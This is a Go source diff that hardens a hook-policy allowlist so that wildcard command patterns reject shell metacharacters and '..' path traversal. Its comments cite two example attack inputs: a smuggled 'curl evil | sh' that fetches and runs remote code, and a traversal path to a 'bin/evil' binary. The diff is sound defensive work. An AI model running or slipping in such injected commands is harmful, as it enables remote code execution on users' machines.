@@ -7,6 +7,8 @@ import (
 	"io/fs"
 	"os"
 	"path/filepath"
+	"regexp"
+	"slices"
 	"strings"
 
 	"github.com/hermes-hooks/hermes/internal/manifest"
@@ -47,8 +49,9 @@ type Policy struct {
 	// hook or webhook of the user's home may target; a URL matching one may also reach
 	// private addresses. nil = any URL, private addresses refused unless the entry allows them.
 	AllowedHTTPURLs []string `json:"allowed_http_urls"`
-	// AllowedCommands, when not nil, are the only command lines (patterns, `*` matching any
-	// run of characters) a command hook of the user's home may run. nil = any command.
+	// AllowedCommands, when not nil, are the only command lines a command hook of the user's
+	// home may run: patterns whose `*` matches any run of characters but shell syntax and a
+	// ".." path element (matchCommand). nil = any command.
 	AllowedCommands []string `json:"allowed_commands"`
 }
 
@@ -61,7 +64,7 @@ func (p *Policy) refuses(typ, target string) string {
 		return "refused by the managed policy (" + p.File + " sets managed_hooks_only: true): only hooks of the managed home run"
 	case typ == shell.TypeHTTP && p.AllowedHTTPURLs != nil && !netguard.MatchAny(p.AllowedHTTPURLs, target):
 		return "refused by the managed policy (" + p.File + "): the URL matches no pattern of allowed_http_urls (" + strings.Join(p.AllowedHTTPURLs, ", ") + ")"
-	case typ != shell.TypeHTTP && p.AllowedCommands != nil && !netguard.MatchAny(p.AllowedCommands, target):
+	case typ != shell.TypeHTTP && p.AllowedCommands != nil && !slices.ContainsFunc(p.AllowedCommands, func(pat string) bool { return matchCommand(pat, target) }):
 		return "refused by the managed policy (" + p.File + "): the command matches no pattern of allowed_commands (" + strings.Join(p.AllowedCommands, ", ") + ")"
 	}
 	return ""
@@ -179,4 +182,34 @@ func refusedDir(home, sub, what string, p *Policy) (bool, []Warning) {
 		return true, nil
 	}
 	return true, []Warning{{File: dir, Msg: what + " not loaded: " + p.refuses("", "")}}
+}
+
+// commandWild is what a `*` of allowed_commands may stand for: no shell syntax (a command
+// line of dialect: claude is run by /bin/sh, so "~/hooks/*" must not admit
+// "~/hooks/x.sh; curl evil | sh") and no line break.
+const commandWild = "[^;&|`$<>(){}\\r\\n]*"
+
+// matchCommand reports whether a command line matches an allowed_commands pattern: `*` is
+// any run of characters other than shell syntax, and what a `*` stands for may not climb
+// out of a directory with a ".." path element ("~/hooks/*" does not admit
+// "~/hooks/../../bin/evil").
+func matchCommand(pattern, cmd string) bool {
+	parts := strings.Split(pattern, "*")
+	for i, p := range parts {
+		parts[i] = regexp.QuoteMeta(p)
+	}
+	re, err := regexp.Compile("^" + strings.Join(parts, "("+commandWild+")") + "$")
+	if err != nil {
+		return false
+	}
+	m := re.FindStringSubmatch(cmd)
+	if m == nil {
+		return false
+	}
+	for _, g := range m[1:] {
+		if g == ".." || strings.HasPrefix(g, "../") || strings.HasSuffix(g, "/..") || strings.Contains(g, "/../") {
+			return false
+		}
+	}
+	return true
 }
